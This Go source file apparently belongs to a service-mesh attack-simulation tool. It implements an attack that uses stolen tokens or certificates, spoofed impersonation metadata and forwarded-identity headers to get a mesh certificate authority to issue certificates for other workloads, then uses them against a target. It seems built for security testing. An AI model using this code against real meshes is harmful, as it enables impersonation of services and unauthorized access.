package attacks

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"strings"
	"time"

	"github.com/meshbreach/meshbreach/attacker"
)

// AskAuthority has the parameters of ask-authority.
type AskAuthority struct {
	Call
	// Token is the credential, sent as a bearer token.
	Token *attacker.Token `json:"token,omitempty"`
	// Leaf is the credential, presented as a client certificate. Without
	// either, nothing is.
	Leaf *attacker.Leaf `json:"leaf,omitempty"`
	// As names the cast members whose identities the request asks for; whose
	// the credential is when empty.
	As []string `json:"as,omitempty"`
	// Validity is the life to ask for; the authority's own when zero.
	Validity attacker.Duration `json:"validity,omitempty"`
	// AtLeast is the life below which the leaf is not worth having: a shorter
	// one is taken for a refusal and is not used.
	AtLeast attacker.Duration `json:"atLeast,omitempty"`
	// Mint names a cast member of whom a token is asked for first, at the
	// platform's own API and with the token that is held.
	Mint string `json:"mint,omitempty"`
	// Impersonate names a cast member in the metadata by which Istio's node
	// proxies ask for others.
	Impersonate string `json:"impersonate,omitempty"`
	// Forwarded names a cast member in the header by which a gateway says
	// whose certificate it saw.
	Forwarded string `json:"forwarded,omitempty"`
	// Every repeats the attempt at this interval until it is stopped.
	Every attacker.Duration `json:"every,omitempty"`
	// For ends the series.
	For attacker.Duration `json:"for,omitempty"`
}

// Loot asks for the credentials.
func (p *AskAuthority) Loot() ([]*attacker.Leaf, []*attacker.Token) {
	var leaves []*attacker.Leaf
	if p.Leaf != nil {
		leaves = append(leaves, p.Leaf)
	}
	return leaves, tokens(p.Token)
}

// Lasts says whether the attempt is repeated until it is stopped.
func (p *AskAuthority) Lasts() bool { return p.Every > 0 && p.For == 0 }

// Check refuses parameters that contradict each other.
func (p *AskAuthority) Check() error {
	return errors.Join(
		refuse(p.Leaf != nil && p.Leaf.Of == "", "leaf: name its owner with of"),
		refuse(p.Validity < 0 || p.AtLeast < 0 || p.Every < 0 || p.For < 0, "validity, atLeast, every and for cannot be negative"),
		refuse(p.For > 0 && p.Every == 0, "for needs every: it ends a series of requests"),
		refuse(p.Mint != "" && p.Token == nil, "mint needs a token"),
		checkTokens(p.Token),
		p.Call.Check(),
	)
}

// identities are the cast members that the request names.
func (p *AskAuthority) identities() []string {
	switch {
	case len(p.As) > 0:
		return p.As
	case p.Mint != "":
		return []string{p.Mint}
	case p.Token != nil && p.Token.Of != "":
		return []string{p.Token.Of}
	case p.Leaf != nil && p.Leaf.Of != "":
		return []string{p.Leaf.Of}
	}
	return nil
}

func askAuthority() attacker.Attack {
	return attacker.New("ask-authority", "Ask the mesh's certificate authority for a certificate",
		`Asks the mesh's certificate authority (CA), in the CA's own protocol, to sign
the attacker's key. The attacker sends a token, a stolen certificate (leaf) or
no credential. It can ask for the credential's own identity, for another one or
for several at once, and can choose the lifetime. If the CA issues a
certificate, the attacker presents it straight to the target with a request,
bypassing any proxy of the foothold. Only the target's answer shows what the
certificate is worth. What the CA answers is reported at layer ca.`,
		func(ctx context.Context, f attacker.Foothold, t attacker.Target, nonce func() string, p AskAuthority, emit func(attacker.Observation)) error {
			ask, err := p.ask(f, t)
			if err != nil {
				return err
			}
			if p.For > 0 {
				var cancel context.CancelFunc
				ctx, cancel = context.WithTimeout(ctx, time.Duration(p.For))
				defer cancel()
			}
			for {
				// A stop lets the one under way end: cut off, it would look refused.
				o, err := ask.once(context.WithoutCancel(ctx), f, p.request(nonce(), t, HTTP1), serverName(t))
				if err != nil {
					return err
				}
				emit(o)
				if p.Every == 0 || !rest(ctx, time.Duration(p.Every)) {
					return nil
				}
			}
		})
}

// rest waits; false when the context ended first.
func rest(ctx context.Context, d time.Duration) bool {
	left := time.NewTimer(d)
	defer left.Stop()
	select {
	case <-ctx.Done():
		return false
	case <-left.C:
		return true
	}
}

// ask is what p means at a target's authority.
func (p *AskAuthority) ask(f attacker.Foothold, t attacker.Target) (asking, error) {
	a := asking{atLeast: time.Duration(p.AtLeast)}
	if t.Authority == nil {
		return a, errors.New("this mesh has no certificate authority that workloads can ask")
	}
	if len(p.identities()) == 0 {
		return a, errors.New("ask-authority has neither a token nor a leaf: name whose identity to ask for, with as")
	}
	var err error
	if a.protocol, err = f.Protocol(t.Authority.Protocol); err != nil {
		return a, err
	}
	a.request = attacker.LeafRequest{Authority: *t.Authority, Validity: time.Duration(p.Validity)}
	for _, name := range p.identities() {
		id, err := identity(t, name)
		if err != nil {
			return a, err
		}
		a.request.Identities = append(a.request.Identities, id)
	}
	if a.request.Impersonate, err = identity(t, p.Impersonate); err != nil {
		return a, err
	}
	if a.request.Forwarded, err = identity(t, p.Forwarded); err != nil {
		return a, err
	}
	if a.request.Token, err = bearer(p.Token); err != nil {
		return a, err
	}
	if a.mint, err = account(t, p.Mint); err != nil {
		return a, err
	}
	if p.Leaf != nil {
		if a.request.Leaf = p.Leaf.Held; a.request.Leaf == nil {
			return a, fmt.Errorf("no leaf of %s is held", p.Leaf.Of)
		}
	}
	return a, nil
}

// asking is one request for a leaf, ready to be made.
type asking struct {
	protocol attacker.AuthorityProtocol
	request  attacker.LeafRequest
	mint     string        // namespace/account of whom a token is asked for first
	atLeast  time.Duration // a leaf with a shorter life is not used
}

// once asks for a leaf and uses it in a request. An error means that it could
// not be tried.
func (a asking) once(ctx context.Context, f attacker.Foothold, k attacker.Request, server string) (attacker.Observation, error) {
	q := a.request
	q.Nonce = k.Nonce
	var related []netip.AddrPort
	if a.mint != "" {
		token, o := a.minted(ctx, f, k.Nonce)
		if o.Refusal != nil {
			return o, nil
		}
		q.Token, related = token, append(related, o.Local)
	}
	pair, o, err := a.protocol.RequestLeaf(ctx, f, q)
	if err != nil {
		return o, err
	}
	o.Related = append(o.Related, related...)
	if o.Refusal != nil {
		return o, nil
	}
	leaf, err := pair.Certificate()
	switch {
	case err != nil:
		o.Reply, o.Refusal = nil, &attacker.Refusal{Layer: attacker.LayerApp, Text: "the answer holds no leaf: " + err.Error()}
		return o, nil
	case a.atLeast > 0 && leaf.NotAfter.Sub(o.End) < a.atLeast:
		o.Reply, o.Refusal = nil, &attacker.Refusal{Layer: attacker.LayerCA, Text: fmt.Sprintf("issued %s until %s, a shorter life than was asked for",
			strings.Join(attacker.IdentitiesOf(leaf), " "), leaf.NotAfter.UTC().Format(time.RFC3339))}
		return o, nil
	}
	k.TLS = &attacker.TLS{Leaf: pair, ServerName: server, ALPN: alpnFor(HTTP1)}
	used := f.Request(ctx, k)
	used.Start = o.Start
	used.Related = append([]netip.AddrPort{o.Local}, o.Related...)
	return used, nil
}
